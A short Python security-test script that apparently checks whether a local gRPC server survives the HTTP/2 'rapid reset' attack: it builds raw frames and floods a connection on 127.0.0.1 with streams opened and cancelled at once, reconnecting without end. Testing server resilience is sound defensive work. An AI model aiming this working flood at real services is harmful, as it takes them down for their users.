"""A stranger at a gRPC port who opens streams and resets them at once ("rapid reset"), on one connection, until it is ended.

`python -m tests.security.resetting PORT PATH RATE` prints a line with the first of so many streams a second.
"""

import socket
import struct
import sys
import time
from contextlib import suppress

HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_HEADERS, ACK = 4, 1
CANCEL = struct.pack(">L", 8)
#: Pairs of frames in one write.
BATCH = 100


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">L", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">L", stream) + payload


def literal(name: str, value: str) -> bytes:
    """Return a header without an index and without Huffman's code (RFC 7541, 6.2.2)."""
    return b"\0" + b"".join(bytes([len(text)]) + text.encode() for text in (name, value))


def head(path: str) -> bytes:
    pairs = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "control"}
    return b"".join(literal(*pair) for pair in (pairs | {"te": "trailers", "content-type": "application/grpc"}).items())


def flood(port: int, path: str, rate: float) -> None:
    """Open and reset streams until the server closes the connection."""
    block, stream = head(path), 1
    with socket.create_connection(("127.0.0.1", port)) as connection:
        connection.sendall(
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b"") + frame(SETTINGS, ACK, 0, b"")
        )
        while True:
            frames = list[bytes]()
            for _ in range(BATCH):
                frames += frame(HEADERS, END_HEADERS, stream, block), frame(RST_STREAM, 0, stream, CANCEL)
                stream += 2
            connection.sendall(b"".join(frames))
            with suppress(BlockingIOError):
                while connection.recv(1 << 16, socket.MSG_DONTWAIT):
                    pass
            if stream == 1 + 2 * BATCH:
                sys.stdout.write("begun\n")
                sys.stdout.flush()
            time.sleep(BATCH / rate)


def main(port: str, path: str, rate: str) -> None:
    while True:
        with suppress(ConnectionError):
            flood(int(port), path, float(rate))


if __name__ == "__main__":
    main(*sys.argv[1:])
